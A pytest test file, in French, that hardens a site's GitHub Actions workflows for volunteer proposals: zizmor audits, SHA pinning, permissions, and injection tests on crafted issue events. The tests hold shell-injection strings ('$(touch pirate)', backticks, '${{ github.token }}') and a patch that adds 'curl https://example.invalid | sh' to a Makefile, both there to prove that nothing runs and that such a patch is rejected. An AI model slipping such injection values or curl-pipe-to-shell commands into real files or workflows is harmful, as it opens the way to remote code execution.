"""Les workflows GitHub : la porte par laquelle les propositions des bénévoles arrivent sur le site.

D'abord des vérifications sur tous les workflows (zizmor, schéma, actions épinglées par SHA,
aucune expression dans les scripts, permissions explicites), puis les scripts du workflow
« Proposition de fiche » exécutés sur de faux événements GitHub, avec une doublure de
`from-issue` et de `gh` (on teste le workflow, pas la commande).
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from emploi_accompagne.paths import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
FICHIERS = sorted(WORKFLOWS.glob("*.yml")) + sorted(WORKFLOWS.glob("*.yaml"))
BIN = Path(sys.executable).parent
ETIQUETTE = "proposition-de-fiche"

# Findings that an inline `# zizmor: ignore[...]` comment silences on purpose, each with its reason.
# Any other ignore comment makes test_zizmor_n_ignore_que_les_exceptions_justifiees fail.
EXCEPTIONS_ZIZMOR = {
    # `/confirmer` needs issue_comment. Mitigated: only maintainers' comments on issues (never on a
    # pull request), no code from the comment or a branch runs, the text is read by a read-only job.
    ("proposition.yml", "dangerous-triggers"),
}

SHA = re.compile(r"[0-9a-f]{40}")
VERSION_EN_COMMENTAIRE = re.compile(r"#\s*v\d+(\.\d+)*\s*$")


def charger(chemin: Path):
    # YAML 1.2 (ruamel): `on:` stays the string "on", not the boolean True of YAML 1.1.
    return YAML(typ="rt").load(chemin.read_text(encoding="utf-8"))


def nom(chemin: Path) -> str:
    return chemin.name


def test_il_y_a_les_workflows_attendus():
    assert {f.name for f in FICHIERS} >= {"tests.yml", "publier.yml", "proposition.yml", "donnees.yml"}


# --- zizmor ---------------------------------------------------------------------------------


def zizmor(*options: str) -> list[dict]:
    executable = BIN / "zizmor"
    assert executable.exists(), f"{executable} introuvable : lancer `make install`"
    resultat = subprocess.run(
        # The auditor persona: every finding, pedantic ones (an image without its digest) included.
        [str(executable), "--offline", "--persona", "auditor", "--format", "json", *options, str(WORKFLOWS)],
        check=False, cwd=ROOT, capture_output=True, text=True,
    )
    try:
        return json.loads(resultat.stdout)
    except json.JSONDecodeError:
        pytest.fail(f"zizmor n'a pas rendu de JSON (code {resultat.returncode}) :\n{resultat.stderr}", pytrace=False)


def lieu(constat: dict) -> tuple[str, int]:
    principal = next((lieu_ for lieu_ in constat["locations"] if lieu_["symbolic"]["kind"] == "Primary"), constat["locations"][0])
    chemin = principal["symbolic"]["key"]["Local"]["verbatim_path"]
    return Path(chemin).name, principal["concrete"]["location"]["start_point"]["row"] + 1


def lister(constats: list[dict]) -> str:
    lignes = []
    for c in constats:
        fichier, ligne = lieu(c)
        lignes.append(f"  {fichier}:{ligne}: [{c['determinations']['severity']}] {c['ident']} : {c['desc']}")
    return "\n".join(lignes)


def test_zizmor_ne_trouve_rien_quelle_que_soit_la_gravite():
    constats = zizmor()
    assert not constats, f"zizmor --offline .github/workflows/ : {len(constats)} constat(s)\n{lister(constats)}"


def test_zizmor_n_ignore_que_les_exceptions_justifiees():
    constats = zizmor("--no-ignores")
    ignores = {(lieu(c)[0], c["ident"]) for c in constats}
    assert ignores <= EXCEPTIONS_ZIZMOR, (
        "constats tus par un commentaire `# zizmor: ignore[...]` sans figurer dans EXCEPTIONS_ZIZMOR :\n"
        + lister([c for c in constats if (lieu(c)[0], c["ident"]) not in EXCEPTIONS_ZIZMOR])
    )


# --- schema, pinning, scripts, permissions ---------------------------------------------------


def test_le_schema_des_workflows_github_accepte_chaque_workflow():
    resultat = subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *map(str, FICHIERS)],
        check=False, cwd=ROOT, capture_output=True, text=True,
    )
    assert resultat.returncode == 0, resultat.stdout + resultat.stderr


def jobs(chemin: Path):
    return charger(chemin)["jobs"].items()


def etapes(chemin: Path):
    for id_job, job in jobs(chemin):
        for etape in job.get("steps", []):
            yield id_job, etape


def references(chemin: Path):
    """Every `uses:` (a job calling a reusable workflow, or a step), with its line and the line's text."""
    lignes = chemin.read_text(encoding="utf-8").splitlines()
    for id_job, job in jobs(chemin):
        blocs = [job] + list(job.get("steps", []))
        for bloc in blocs:
            if "uses" in bloc:
                ligne = bloc.lc.value("uses")[0]
                yield id_job, bloc["uses"], ligne + 1, lignes[ligne]


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_action_est_epinglee_par_le_sha_de_son_commit(chemin):
    fautes = []
    for id_job, uses, ligne, texte in references(chemin):
        if uses.startswith(("./", "$/")):  # this repository, at the commit being run
            continue
        action, _, ref = uses.partition("@")
        if not SHA.fullmatch(ref):
            fautes.append(f"{chemin.name}:{ligne} ({id_job}) : {uses} n'est pas épinglée par un SHA de 40 caractères")
        elif not VERSION_EN_COMMENTAIRE.search(texte):
            fautes.append(f"{chemin.name}:{ligne} ({id_job}) : {action} : version manquante en commentaire (# vX.Y.Z)")
    assert not fautes, "\n".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_aucun_script_ne_recoit_d_expression(chemin):
    """A `${{ }}` inside `run:` is pasted into the script before bash reads it: a title, a body or a
    branch name could then run as code. Values go through `env:` (or jq on the event file)."""
    fautes = [
        f"{chemin.name} ({id_job}, étape « {etape.get('name', etape.get('id', '?'))} ») : "
        + ", ".join(sorted(set(re.findall(r"\$\{\{.*?\}\}", etape["run"]))))
        for id_job, etape in etapes(chemin)
        if "run" in etape and "${{" in etape["run"]
    ]
    assert not fautes, "expressions dans un script (à passer par env:) :\n" + "\n".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_job_declare_ses_permissions_et_le_workflow_aucune(chemin):
    workflow = charger(chemin)
    assert "permissions" in workflow and workflow["permissions"] == {}, (
        f"{chemin.name} : écrire `permissions: {{}}` en tête, et les permissions de chaque job dans le job"
    )
    sans = [id_job for id_job, job in jobs(chemin) if not isinstance(job.get("permissions"), dict)]
    assert not sans, f"{chemin.name} : jobs sans bloc `permissions:` : {', '.join(sans)}"


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_checkout_ne_garde_pas_le_jeton(chemin):
    fautes = [
        f"{chemin.name} ({id_job})"
        for id_job, etape in etapes(chemin)
        if str(etape.get("uses", "")).startswith("actions/checkout@")
        and (etape.get("with") or {}).get("persist-credentials") is not False
    ]
    assert not fautes, "actions/checkout sans `persist-credentials: false` : " + ", ".join(fautes)


@pytest.mark.parametrize("chemin", FICHIERS, ids=nom)
def test_chaque_image_de_conteneur_est_epinglee_par_son_empreinte(chemin):
    """A tag (`debian:bookworm`) can be moved to another image; a digest cannot."""
    for id_job, contenu in jobs(chemin):
        conteneur = contenu.get("container")
        image = conteneur.get("image") if isinstance(conteneur, dict) else conteneur
        if image is not None:
            assert re.search(r"@sha256:[0-9a-f]{64}$", image), f"{chemin.name} ({id_job}) : {image} sans @sha256:…"


# --- the data check on pull requests ----------------------------------------------------------


def test_donnees_ne_lance_que_la_verification_des_donnees_sur_les_pull_requests_qui_les_touchent():
    workflow = charger(WORKFLOWS / "donnees.yml")
    assert list(workflow["on"]) == ["pull_request"]
    assert list(workflow["on"]["pull_request"]["paths"]) == ["data/**"]
    scripts = [etape["run"].strip() for _, etape in etapes(WORKFLOWS / "donnees.yml") if "run" in etape]
    assert scripts == ["make install", ".venv/bin/python -m emploi_accompagne check --format github"]
    python = next(e for _, e in etapes(WORKFLOWS / "donnees.yml") if str(e.get("uses", "")).startswith("actions/setup-python@"))
    assert python["with"]["cache"] == "pip" and python["with"]["cache-dependency-path"] == "requirements.lock"
    # The whole suite still runs on every pull request.
    assert "pull_request" in charger(WORKFLOWS / "tests.yml")["on"]


# --- the proposal workflow: structure ---------------------------------------------------------

PROPOSITION = WORKFLOWS / "proposition.yml"


def job(nom_job: str):
    return charger(PROPOSITION)["jobs"][nom_job]


def test_proposition_se_declenche_sur_les_issues_et_les_commentaires():
    on = charger(PROPOSITION)["on"]
    assert set(on) == {"issues", "issue_comment"}
    assert set(on["issues"]["types"]) == {"opened", "edited", "labeled"}
    assert list(on["issue_comment"]["types"]) == ["created"]


def test_seul_un_responsable_peut_confirmer_sur_une_issue_etiquetee():
    condition = " ".join(job("lire")["if"].split())
    assert f"contains(github.event.issue.labels.*.name, '{ETIQUETTE}')" in condition
    assert "startsWith(github.event.comment.body, '/confirmer ')" in condition
    assert """contains(fromJSON('["OWNER", "MEMBER", "COLLABORATOR"]'), github.event.comment.author_association)""" in condition
    assert "!github.event.issue.pull_request" in condition  # never a comment on a pull request


def test_chaque_job_n_a_que_les_permissions_de_son_travail():
    assert dict(job("lire")["permissions"]) == {"contents": "read"}
    assert dict(job("proposer")["permissions"]) == {"contents": "write", "pull-requests": "write"}
    assert dict(job("repondre")["permissions"]) == {"issues": "write"}
    assert job("proposer")["needs"] == "lire"
    assert job("repondre")["needs"] == "lire"


def test_seul_le_job_en_lecture_seule_touche_au_texte_de_l_issue():
    for nom_job, contenu in charger(PROPOSITION)["jobs"].items():
        scripts = " ".join(e.get("run", "") for e in contenu.get("steps", []))
        if nom_job != "lire":
            assert ".body" not in scripts and "from-issue" not in scripts, nom_job


def test_les_jobs_d_une_meme_issue_ne_se_croisent_pas():
    for nom_job in ("lire", "proposer", "repondre"):
        assert "${{ github.event.issue.number }}" in job(nom_job)["concurrency"]["group"], nom_job
    # The writers share one queue, in the order of the events.
    assert job("proposer")["concurrency"]["group"] == job("repondre")["concurrency"]["group"]
    assert job("proposer")["concurrency"]["cancel-in-progress"] is False


# --- the proposal workflow: its scripts, run on crafted events ----------------------------------

# Shell metacharacters and an expression: none of it may run, all of it must reach the file as is.
CORPS_HOSTILE = (
    "### Département\n\n29 – Finistère\n\n### Téléphone\n\n02 98 00 00 00 $(touch pirate) `touch pirate`\n\n"
    '### Autre chose\n\n"; touch pirate; echo " ${{ github.token }} \'\n'
)


def script(nom_job: str, nom_etape: str) -> tuple[str, set[str]]:
    etape = next(e for e in job(nom_job)["steps"] if e.get("name") == nom_etape)
    return etape["run"], set(etape.get("env") or {})


DOUBLURE_PYTHON = """#!{python}
import json, os, sys
from pathlib import Path
args = sys.argv[1:]
with open(os.environ["JOURNAL"], "a", encoding="utf-8") as journal:
    journal.write(json.dumps(args) + "\\n")
if args[:3] == ["-m", "emploi_accompagne", "check"]:
    sys.exit(int(os.environ.get("CHECK", "0")))
assert args[:3] == ["-m", "emploi_accompagne", "from-issue"], args
mode = os.environ["FROM_ISSUE"]
if mode == "accepte":
    with open("data/plateformes.yaml", "a", encoding="utf-8") as f:
        f.write("  telephone: 02 98 00 00 00\\n")
    print("## Fiche du Finistère (29)\\n\\n- téléphone : 02 98 00 00 00")
    sys.exit(0)
if mode == "inchange":
    sys.exit(0)
if mode == "inchange-3":
    print("La fiche du Finistère contient déjà ce téléphone.")
    sys.exit(3)
if mode == "refuse":
    print("Téléphone : numéro invalide (02 98 00 00 00 $(touch pirate))", file=sys.stderr)
    print("Source : obligatoire", file=sys.stderr)
    sys.exit(1)
print("Traceback (most recent call last): ...", file=sys.stderr)
sys.exit(2)
"""

DOUBLURE_GH = """#!{python}
import json, os, sys
args = sys.argv[1:]
champs = {{}}
for i, a in enumerate(args):
    if a in ("-F", "-f") and i + 1 < len(args):
        cle, _, valeur = args[i + 1].partition("=")
        if a == "-F" and valeur.startswith("@"):
            valeur = open(valeur[1:], encoding="utf-8").read()
        champs[cle] = valeur
with open(os.environ["JOURNAL_GH"], "a", encoding="utf-8") as journal:
    journal.write(json.dumps({{"args": args, "champs": champs}}) + "\\n")
if any("/pulls?" in a for a in args):
    print(os.environ.get("PR_EXISTANTE", ""))
elif "POST" in args and any(a.endswith("/pulls") for a in args):
    print("Pull request #77 ouverte.")
"""


class Runner:
    """Just enough of a GitHub runner to run one step's `run:` as GitHub does (bash -eo pipefail)."""

    def __init__(self, racine: Path):
        self.racine = racine
        self.temp = racine / "runner-temp"
        self.temp.mkdir()
        self.bin = racine / "bin"
        self.bin.mkdir()
        (self.bin / "gh").write_text(DOUBLURE_GH.format(python=sys.executable), encoding="utf-8")
        (self.bin / "gh").chmod(0o755)
        self.origine = racine / "origine.git"
        subprocess.run(["git", "init", "--quiet", "--bare", "-b", "main", str(self.origine)], check=True, env=self.env_git())
        depot = self.nouvel_espace("amorce", cloner=False)
        (depot / "data").mkdir()
        (depot / "data" / "plateformes.yaml").write_text('- departement: "29"\n  nom: Plateforme du Finistère\n', encoding="utf-8")
        (depot / "Makefile").write_text("install:\n", encoding="utf-8")
        (depot / ".gitignore").write_text(".venv/\n", encoding="utf-8")
        self.git(depot, "add", ".")
        self.git(depot, "commit", "--quiet", "-m", "départ")
        self.git(depot, "push", "--quiet", str(self.origine), "HEAD:refs/heads/main")

    def env_git(self) -> dict:
        return {
            "PATH": f"{self.bin}:{os.environ['PATH']}", "HOME": str(self.racine), "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid", "LC_ALL": "C.UTF-8",
        }

    def git(self, depot: Path, *args: str) -> str:
        return subprocess.run(["git", *args], cwd=depot, check=True, capture_output=True, text=True, env=self.env_git()).stdout

    def nouvel_espace(self, nom_espace: str, cloner: bool = True) -> Path:
        """A fresh workspace, as actions/checkout leaves it (a clone of main, no credentials)."""
        espace = self.racine / nom_espace
        if cloner:
            subprocess.run(["git", "clone", "--quiet", str(self.origine), str(espace)], check=True, env=self.env_git())
        else:
            espace.mkdir()
            self.git(espace, "init", "--quiet", "-b", "main")
        python = espace / ".venv" / "bin" / "python"
        python.parent.mkdir(parents=True)
        python.write_text(DOUBLURE_PYTHON.format(python=sys.executable), encoding="utf-8")
        python.chmod(0o755)
        return espace

    def executer(self, nom_job: str, nom_etape: str, espace: Path, evenement: dict, nom_evenement: str, **env):
        texte, attendues = script(nom_job, nom_etape)
        manquantes = attendues - set(env)
        assert not manquantes, f"l'étape attend aussi {manquantes}"
        (self.temp / "evenement.json").write_text(json.dumps(evenement, ensure_ascii=False), encoding="utf-8")
        sortie = self.temp / f"sortie-{nom_job}"
        sortie.write_text("", encoding="utf-8")
        fichier = self.racine / f"{nom_job}.sh"
        fichier.write_text(texte, encoding="utf-8")
        environnement = {
            **self.env_git(), "RUNNER_TEMP": str(self.temp), "GITHUB_OUTPUT": str(sortie),
            "GITHUB_EVENT_PATH": str(self.temp / "evenement.json"), "GITHUB_EVENT_NAME": nom_evenement,
            "GITHUB_REPOSITORY": "exemple/annuaire", "GITHUB_REPOSITORY_OWNER": "exemple",
            "JOURNAL": str(self.racine / "journal-python.jsonl"), "JOURNAL_GH": str(self.racine / "journal-gh.jsonl"),
            **env,
        }
        resultat = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(fichier)],
            check=False, cwd=espace, capture_output=True, text=True, env=environnement,
        )
        sorties = dict(ligne.split("=", 1) for ligne in sortie.read_text(encoding="utf-8").splitlines() if "=" in ligne)
        return resultat, sorties

    def journal(self, nom_journal: str) -> list:
        chemin = self.racine / nom_journal
        if not chemin.exists():
            return []
        return [json.loads(ligne) for ligne in chemin.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def runner(tmp_path):
    if shutil.which("jq") is None:
        if os.environ.get("CI"):
            pytest.fail("jq introuvable : les scripts du workflow s'en servent (installé sur les runners GitHub)")
        pytest.skip("jq introuvable sur cette machine (présent sur les runners GitHub et dans la CI)")
    return Runner(tmp_path)


def issue(numero=42, corps=CORPS_HOSTILE, mis_a_jour="2026-11-30T23:10:00Z"):
    return {
        "action": "opened",
        "issue": {"number": numero, "body": corps, "state": "open", "updated_at": mis_a_jour,
                  "labels": [{"name": ETIQUETTE}]},
        "repository": {"default_branch": "main"},
    }


def confirmation(texte: str, login="alice", le="2026-12-01T08:00:00Z"):
    evenement = issue()
    evenement["action"] = "created"
    evenement["comment"] = {"body": texte, "user": {"login": login}, "created_at": le, "author_association": "MEMBER"}
    return evenement


LIRE = ("lire", "Transformer l'issue en fiche (from-issue)")


def test_le_texte_de_l_issue_arrive_tel_quel_dans_le_fichier_et_rien_ne_s_execute(runner):
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*LIRE, espace, issue(), "issues", FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "accepte"}
    appel = runner.journal("journal-python.jsonl")[0]
    assert appel[:3] == ["-m", "emploi_accompagne", "from-issue"]
    assert appel[4:] == ["--numero", "42", "--date", "2026-11-30"]
    assert Path(appel[3]).read_text(encoding="utf-8") == CORPS_HOSTILE + "\n"
    assert not list(runner.racine.rglob("pirate"))
    # Checked by the site's own check, then handed on as a patch and a summary.
    assert runner.journal("journal-python.jsonl")[1] == ["-m", "emploi_accompagne", "check"]
    livraison = runner.temp / "proposition"
    assert "+++ b/data/plateformes.yaml" in (livraison / "proposition.patch").read_text(encoding="utf-8")
    assert (livraison / "resume.md").read_text(encoding="utf-8").startswith("## Fiche du Finistère (29)")


def test_une_confirmation_porte_le_texte_apres_confirmer_son_auteur_et_sa_date(runner):
    espace = runner.nouvel_espace("lire")
    evenement = confirmation("/Confirmer  par téléphone avec la plateforme $(touch pirate) \r\nMerci !")
    resultat, sorties = runner.executer(*LIRE, espace, evenement, "issue_comment", FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    appel = runner.journal("journal-python.jsonl")[0]
    assert appel[4:] == [
        "--numero", "42", "--date", "2026-12-01",
        "--confirmation", "par téléphone avec la plateforme $(touch pirate), par @alice le 2026-12-01",
    ]
    assert not list(runner.racine.rglob("pirate"))
    assert sorties == {"resultat": "accepte"}


def test_une_confirmation_sans_texte_est_refusee_sans_appeler_from_issue(runner):
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*LIRE, espace, confirmation("/confirmer   \nok"), "issue_comment", FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "refuse"}
    assert runner.journal("journal-python.jsonl") == []
    assert "/confirmer" in (runner.temp / "proposition" / "erreurs.txt").read_text(encoding="utf-8")


def test_une_proposition_refusee_transmet_les_erreurs_et_aucun_correctif(runner):
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*LIRE, espace, issue(), "issues", FROM_ISSUE="refuse")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "refuse"}
    livraison = runner.temp / "proposition"
    assert "Source : obligatoire" in (livraison / "erreurs.txt").read_text(encoding="utf-8")
    assert not (livraison / "proposition.patch").exists()


@pytest.mark.parametrize("mode", ["inchange", "inchange-3"], ids=["code-0-sans-changement", "code-3"])
def test_une_proposition_qui_ne_change_rien_ne_donne_pas_de_pull_request(runner, mode):
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*LIRE, espace, issue(), "issues", FROM_ISSUE=mode)
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "inchange"}
    assert not (runner.temp / "proposition" / "proposition.patch").exists()


@pytest.mark.parametrize("panne", [{"FROM_ISSUE": "plante"}, {"FROM_ISSUE": "accepte", "CHECK": "1"}],
                         ids=["from-issue-plante", "check-refuse-le-resultat"])
def test_une_panne_fait_echouer_le_job_sans_rien_transmettre(runner, panne):
    espace = runner.nouvel_espace("lire")
    resultat, sorties = runner.executer(*LIRE, espace, issue(), "issues", **panne)
    assert resultat.returncode != 0
    assert "resultat" not in sorties


def proposition_acceptee(runner) -> None:
    resultat, _ = runner.executer(*LIRE, runner.nouvel_espace("lire"), issue(), "issues", FROM_ISSUE="accepte")
    assert resultat.returncode == 0, resultat.stderr


POUSSER = ("proposer", "Pousser la branche proposition/<numéro>")


def test_le_correctif_est_pousse_sur_la_branche_de_l_issue(runner):
    proposition_acceptee(runner)
    resultat, _ = runner.executer(*POUSSER, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    assert runner.git(runner.origine, "diff", "--name-only", "main", "proposition/42").split() == ["data/plateformes.yaml"]
    assert runner.git(runner.origine, "log", "-1", "--format=%s", "proposition/42").strip() == "Fiche proposée dans l'issue #42"
    # Pushed again after an edit: the branch is replaced, not stacked.
    resultat, _ = runner.executer(*POUSSER, runner.nouvel_espace("proposer-bis"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    assert runner.git(runner.origine, "rev-list", "--count", "main..proposition/42").strip() == "1"


def test_un_correctif_qui_touche_un_autre_fichier_n_est_pas_pousse(runner):
    proposition_acceptee(runner)
    correctif = runner.temp / "proposition" / "proposition.patch"
    correctif.write_text(
        correctif.read_text(encoding="utf-8")
        + "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n install:\n+\tcurl https://example.invalid | sh\n",
        encoding="utf-8",
    )
    resultat, _ = runner.executer(*POUSSER, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode != 0
    assert "ne doit modifier que data/plateformes.yaml" in resultat.stdout
    assert "proposition/42" not in runner.git(runner.origine, "branch", "--list")


OUVRIR = ("proposer", "Ouvrir ou mettre à jour la pull request")


def test_la_pull_request_est_ouverte_avec_le_resume_et_ferme_l_issue(runner):
    proposition_acceptee(runner)
    resultat, _ = runner.executer(*OUVRIR, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    creation = runner.journal("journal-gh.jsonl")[-1]
    assert creation["args"][:4] == ["api", "--method", "POST", "repos/exemple/annuaire/pulls"]
    assert creation["champs"]["head"] == "proposition/42" and creation["champs"]["base"] == "main"
    assert creation["champs"]["body"].startswith("## Fiche du Finistère (29)")
    assert "\nCloses #42\n" in creation["champs"]["body"]


def test_une_pull_request_deja_ouverte_est_mise_a_jour(runner):
    proposition_acceptee(runner)
    resultat, _ = runner.executer(*OUVRIR, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton", PR_EXISTANTE="7")
    assert resultat.returncode == 0, resultat.stderr
    appels = runner.journal("journal-gh.jsonl")
    assert "head=exemple:proposition/42" in appels[0]["args"][1]
    assert appels[-1]["args"][:4] == ["api", "--method", "PATCH", "repos/exemple/annuaire/pulls/7"]
    assert "Closes #42" in appels[-1]["champs"]["body"]
    assert not any("POST" in a["args"] for a in appels)


REPONDRE = ("repondre", "Commenter")


def test_les_erreurs_sont_commentees_sur_l_issue(runner):
    resultat, _ = runner.executer(*LIRE, runner.nouvel_espace("lire"), issue(), "issues", FROM_ISSUE="refuse")
    assert resultat.returncode == 0, resultat.stderr
    resultat, _ = runner.executer(*REPONDRE, runner.racine, issue(), "issues", GH_TOKEN="jeton", RESULTAT="refuse")
    assert resultat.returncode == 0, resultat.stderr
    commentaire = runner.journal("journal-gh.jsonl")[-1]
    assert commentaire["args"][:4] == ["api", "--method", "POST", "repos/exemple/annuaire/issues/42/comments"]
    assert "Téléphone : numéro invalide (02 98 00 00 00 $(touch pirate))\nSource : obligatoire" in commentaire["champs"]["body"]
    assert not list(runner.racine.rglob("pirate"))


def test_une_proposition_sans_changement_est_expliquee_sur_l_issue(runner):
    resultat, _ = runner.executer(*LIRE, runner.nouvel_espace("lire"), issue(), "issues", FROM_ISSUE="inchange-3")
    assert resultat.returncode == 0, resultat.stderr
    resultat, _ = runner.executer(*REPONDRE, runner.racine, issue(), "issues", GH_TOKEN="jeton", RESULTAT="inchange")
    assert resultat.returncode == 0, resultat.stderr
    corps = runner.journal("journal-gh.jsonl")[-1]["champs"]["body"]
    assert corps.startswith("Cette proposition ne change rien à l'annuaire")
    assert "La fiche du Finistère contient déjà ce téléphone." in corps
